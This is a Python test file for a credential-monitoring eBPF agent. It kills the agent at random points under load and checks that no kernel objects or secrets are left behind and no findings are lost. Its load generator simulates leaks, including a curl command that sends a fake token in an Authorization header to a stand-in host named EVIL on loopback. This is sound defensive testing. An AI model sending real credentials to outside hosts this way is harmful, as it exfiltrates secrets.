# SPDX-License-Identifier: GPL-2.0 OR BSD-3-Clause
"""Crash and restart safety: the agent SIGKILLed 10 times at random points under load.

Load runs all along, agent up or down: execs of never-seen executables (each first exec is
held for its TLS probes) with a fresh token in argv or in the environment, `cat` of watched
.env files holding one, curl sending one over TLS to a loopback server. The agent runs with
an HTTPS output (its spool on disk), the provenance store and --events, each instance with
the same state and spool directories. Each round starts an agent and kills it (SIGKILL) after
a random delay drawn from a seeded generator (the seed is printed; CW_CRASH_SEED=N runs the
same points again): some while it loads and attaches its programs, most while it works.
After each kill, and after a last clean run:
- the store is intact (`credwatch inventory` reads it), keeps every credential it held at
  the last check, and holds every credential whose finding came out more than a save
  interval (5 s, whole seconds: 6 s) before the kill: what docs/workloads-and-policy.md
  promises ("saved every 5 seconds when changed");
- nothing of the dead instance is left: no BPF program, map or link that no live process
  holds (new since before the first start), no pin under /sys/fs/bpf, no new line in
  tracefs uprobe_events, no credwatch process (its watchdog ends with it), no process of the
  load left stopped (state T);
- each restarted agent resumes: a fresh exec after its start gives a finding;
and at the end every alert any instance printed reached the HTTPS receiver at least once
(spooled at the kill, delivered by a later instance), and no plaintext token is in any
output, spool, state file, log or inventory.
"""
import datetime
import glob
import json
import os
import random
import secrets
import shutil
import subprocess
import tempfile
import threading
import time

from cwtest import BIN, Agent, KeyFile, github_token, require_root, wait_own, wait_until
from receivers import Receiver, make_pki
from test_tls import EVIL, TlsServer

KILLS = 10
SAVE_PROMISE_S = 6  # SAVE_INTERVAL (5 s) counted in whole seconds: up to 6 s of wall time
LOADS = ("credential-in-argv", "credential-observed", "credential-read")
TRACEFS = "/sys/kernel/tracing"


class Load:
    """The load, in a thread of its own until close: one item every 50 ms, bounded in count
    and time. Every token it used is in .tokens."""

    def __init__(self, d, port):
        self.d, self.port = d, port
        self.tokens = []
        self.stuck = []  # items that did not end in 10 s (a process left stopped)
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._run, daemon=True)
        self.thread.start()

    def _exe(self, i):
        """A copy of /bin/true no agent has seen: its first exec is held."""
        path = os.path.join(self.d, "bin", "true-%d" % i)
        shutil.copy("/bin/true", path)
        return path

    def _item(self, i):
        token = github_token()
        self.tokens.append(token)
        kind = i % 4
        if kind == 0:
            subprocess.run([self._exe(i), "--token=" + token], timeout=10)
        elif kind == 1:
            subprocess.run([self._exe(i)], env={"PATH": "/usr/bin:/bin", "GITHUB_TOKEN": token},
                           timeout=10)
        elif kind == 2:
            app = os.path.join(self.d, "app", str(i))
            os.makedirs(app)
            with open(os.path.join(app, ".env"), "w") as f:
                f.write("APP=demo\nGITHUB_TOKEN=%s\n" % token)
            subprocess.run(["cat", os.path.join(app, ".env")], stdout=subprocess.DEVNULL,
                           timeout=10)
        else:
            hdr = os.path.join(self.d, "hdr")
            with open(hdr, "w") as f:
                f.write("Authorization: token %s\n" % token)
            subprocess.run(["curl", "-sk", "-o", "/dev/null", "-m", "5", "-H", "@" + hdr,
                            "--resolve", "%s:%d:127.0.0.1" % (EVIL, self.port),
                            "https://%s:%d/v1" % (EVIL, self.port)], timeout=10)

    def _run(self):
        os.makedirs(os.path.join(self.d, "bin"))
        end = time.monotonic() + 120
        for i in range(3000):
            if self.stop.is_set() or time.monotonic() > end:
                return
            try:
                self._item(i)
            except subprocess.TimeoutExpired as e:
                self.stuck.append(str(e.cmd[0]))
            self.stop.wait(0.05)

    def close(self):
        self.stop.set()
        self.thread.join(30)


class KillableAgent(Agent):
    """An Agent that a timer SIGKILLs `kill_after` seconds after its start, ready or not."""

    started = []  # every instance, also those that did not get ready (their output)

    def __init__(self, *args, kill_after=None, **kw):
        self.kill_after = kill_after
        self.timer = None
        KillableAgent.started.append(self)
        super().__init__(*args, **kw)

    def wait_err(self, text, timeout=10):
        if self.kill_after is not None and self.timer is None:
            self.timer = threading.Timer(self.kill_after, self.kill)
            self.timer.start()
        return super().wait_err(text, timeout)

    def kill(self):
        self.kill_time = time.time()
        self.proc.kill()


def bpftool_ids(kind):
    out = subprocess.run(["bpftool", "-j", kind, "show"], capture_output=True, text=True,
                         check=True).stdout
    return {o["id"] for o in json.loads(out or "[]")}


def held_ids():
    """The BPF object ids live processes hold open: {"prog": ids, "map": ids, "link": ids}."""
    held = {"prog": set(), "map": set(), "link": set()}
    for fdinfo in glob.glob("/proc/[0-9]*/fdinfo/*"):
        try:
            with open(fdinfo) as f:
                for line in f:
                    key = line.split(":", 1)[0]
                    if key in ("prog_id", "map_id", "link_id"):
                        held[key[:-3]].add(int(line.split()[1]))
        except (OSError, ValueError):
            continue
    return held


def kernel_objects():
    return {k: bpftool_ids(k) for k in ("prog", "map", "link")}


def orphans(before):
    """BPF objects created since `before` that no live process holds."""
    now, held = kernel_objects(), held_ids()
    return {k: sorted(now[k] - before[k] - held[k]) for k in now if now[k] - before[k] - held[k]}


def pins():
    """What is pinned under /sys/fs/bpf, less the kernel's own bpf_preload iterators."""
    return {os.path.join(r, f) for r, ds, fs in os.walk("/sys/fs/bpf") for f in fs + ds} - {
        "/sys/fs/bpf/maps.debug", "/sys/fs/bpf/progs.debug"}


def uprobe_events():
    if not os.path.exists(os.path.join(TRACEFS, "uprobe_events")):
        subprocess.run(["mount", "-t", "tracefs", "nodev", TRACEFS], check=True)
    with open(os.path.join(TRACEFS, "uprobe_events")) as f:
        return set(f.read().splitlines())


def credwatch_procs():
    exe = os.path.realpath(BIN)
    pids = []
    for p in glob.glob("/proc/[0-9]*/exe"):
        try:
            if os.readlink(p) == exe:
                pids.append(int(p.split("/")[2]))
        except OSError:
            continue
    return pids


def stopped_descendants():
    """This test's descendants (the load's processes) in state T (stopped)."""
    parent, state = {}, {}
    for p in glob.glob("/proc/[0-9]*/stat"):
        try:
            with open(p) as f:
                rest = f.read().rsplit(")", 1)[1].split()
        except (OSError, IndexError):
            continue
        pid = int(p.split("/")[2])
        state[pid], parent[pid] = rest[0], int(rest[1])

    def mine(pid):
        while pid > 1:
            pid = parent.get(pid, 0)
            if pid == os.getpid():
                return True
        return False
    return [p for p, s in state.items() if s in "Tt" and mine(p)]


def inventory(state):
    r = subprocess.run([BIN, "inventory", "--state", state, "--format", "json"],
                       capture_output=True, text=True)
    assert r.returncode == 0, "inventory cannot read the store after a kill: " + r.stderr
    return r.stdout, {json.loads(l)["credential"]["fingerprint"] for l in r.stdout.splitlines()}


def wall(finding):
    ts = finding["@timestamp"].replace("Z", "+00:00")
    return datetime.datetime.fromisoformat(ts).timestamp()


def test_sigkill_at_random_points_under_load_leaves_nothing_and_loses_nothing():
    require_root()
    seed = int(os.environ.get("CW_CRASH_SEED") or secrets.randbits(32))
    print("test_crash: seed %d (CW_CRASH_SEED=%d runs the same kill points)" % (seed, seed))
    rng = random.Random(seed)
    before, pins_before, uprobes_before = kernel_objects(), pins(), uprobe_events()
    key = KeyFile()
    with tempfile.TemporaryDirectory(prefix="cw-crash-") as d:
        make_pki(d)
        sink_token = secrets.token_hex(20)
        with open(os.path.join(d, "sink-token"), "w") as f:
            f.write(sink_token + "\n")
        os.chmod(os.path.join(d, "sink-token"), 0o600)
        state, spool = os.path.join(d, "state", "provenance.json"), os.path.join(d, "spool")
        with Receiver(sink_token, os.path.join(d, "server.pem"),
                      os.path.join(d, "server.key")) as rx, TlsServer() as srv:
            hook = ",".join([rx.url("/hooks/credwatch", tls=True),
                             "token-file=" + os.path.join(d, "sink-token"),
                             "ca=" + os.path.join(d, "ca.pem"), "batch-ms=100"])
            args = ("--state", state, "--spool-dir", spool, "--status-file", "none", "--events",
                    "--include-loopback", "--output", "stdout", "--output", hook)
            load = Load(os.path.join(d, "load"), srv.port)
            agents, on_disk, inventories = [], set(), []
            # 2 rounds die while loading and attaching (a kill at 0.05-1 s from the start),
            # the rest at work, 0.1-1 s after the start was seen to resume; one of those after
            # more than the save promise, so that its own finds must be on disk too
            early_rounds = rng.sample(range(KILLS), 2)
            long_round = rng.choice([k for k in range(KILLS) if k not in early_rounds])
            try:
                for k in range(KILLS + 1):
                    last = k == KILLS
                    early, long = k in early_rounds, k == long_round
                    after = None if last else (rng.uniform(0.05, 1.0) if early else
                                               rng.uniform(6.2, 7.0) if long else
                                               rng.uniform(0.1, 1.0))
                    start = time.monotonic()
                    try:
                        a = KillableAgent(*args, key=key, kill_after=after if early else None,
                                          ready_timeout=30)
                    except AssertionError:
                        # killed before it was ready: only a kill may stop it so
                        agents.append(None)
                        dead = KillableAgent.started[-1]
                        dead.timer.join()
                        assert early and dead.proc.returncode == -9, \
                            "agent %d did not start (seed %d): %s" % (k, seed, dead.stderr())
                    else:
                        agents.append(a)
                        # it resumes: a fresh exec after its start is seen
                        probe = github_token()
                        load.tokens.append(probe)
                        subprocess.run(["/bin/true", "--token=" + probe], check=True)
                        seen = wait_own(a, probe, "credential-in-argv", timeout=10)
                        assert seen or (early and not a.alive()), \
                            "agent %d: no finding for a new exec (seed %d)\n%s" % (
                                k, seed, a.stderr()[-3000:])
                        if last:
                            ids = alert_ids(agents)
                            assert rx.wait(lambda r: ids <= set(r.landed), 30), (
                                "alerts printed but never delivered (seed %d): %s\n%s" % (
                                    seed, sorted(ids - set(rx.landed))[:5], rx.journal()))
                            assert a.stop() == 0, a.stderr()
                        else:
                            if not early:
                                time.sleep(after)  # the kill point: this long into its work
                                a.kill()
                            a.proc.wait(30)
                        a.stop()
                        if a.timer:
                            a.timer.join()
                    a = agents[-1]
                    print("test_crash: agent %d %s after %.2f s" % (
                        k, "stopped" if last else "killed", time.monotonic() - start))
                    check_nothing_left(before, pins_before, uprobes_before, seed)
                    if a is None:
                        continue
                    text, fps = inventory(state)
                    inventories.append(text)
                    mine = {key.fingerprint(t) for t in load.tokens}
                    due = set(on_disk)
                    for f in a.lines:
                        if f["event"]["action"] in LOADS and (
                                last or wall(f) <= a.kill_time - SAVE_PROMISE_S):
                            due.add(f["credwatch"]["credential"]["fingerprint"])
                    assert due <= fps, (
                        "agent %d: %d credential(s) the store should hold are not in it "
                        "(seed %d)" % (k, len(due - fps), seed))
                    on_disk = fps & mine
            finally:
                load.close()
            assert not load.stuck, "load processes that did not end: %s" % load.stuck
            assert len(on_disk) > 20, on_disk
            queued = sum(a.stderr().count("the last run did not deliver are queued")
                         for a in agents if a)
            print("test_crash: %d alerts delivered, %d credentials in the store, %d restarts "
                  "found findings queued" % (len(alert_ids(agents)), len(on_disk), queued))
            with rx.lock:
                delivered = json.dumps(rx.docs)
        blobs = [delivered.encode()] + [t.encode() for t in inventories]
        for a in KillableAgent.started:
            blobs += [a.stdout_bytes(), a.stderr().encode()]
        for f in glob.glob(os.path.join(d, "state", "**"), recursive=True) + \
                glob.glob(os.path.join(spool, "**"), recursive=True):
            if os.path.isfile(f):
                with open(f, "rb") as fh:
                    blobs.append(fh.read())
        for t in load.tokens + [sink_token]:
            assert not any(t.encode() in b for b in blobs), \
                "a plaintext secret in an output, spool, state file or log (seed %d)" % seed


def alert_ids(agents):
    return {l["event"]["id"] for a in agents if a for l in a.lines
            if l["event"]["kind"] == "alert"}


def check_nothing_left(before, pins_before, uprobes_before, seed):
    """Nothing of a stopped or killed agent is left in the kernel or the process table."""
    assert wait_until(lambda: not credwatch_procs(), 5), \
        "credwatch processes outlive the agent (seed %d): %s" % (seed, credwatch_procs())
    assert wait_until(lambda: not orphans(before), 5), \
        "BPF objects no live process holds (seed %d): %s" % (seed, orphans(before))
    assert pins() <= pins_before, "pinned under /sys/fs/bpf (seed %d): %s" % (
        seed, pins() - pins_before)
    assert uprobe_events() <= uprobes_before, \
        "uprobes left in tracefs (seed %d): %s" % (seed, uprobe_events() - uprobes_before)
    assert wait_until(lambda: not stopped_descendants(), 2), \
        "load processes left stopped (seed %d): %s" % (seed, stopped_descendants())
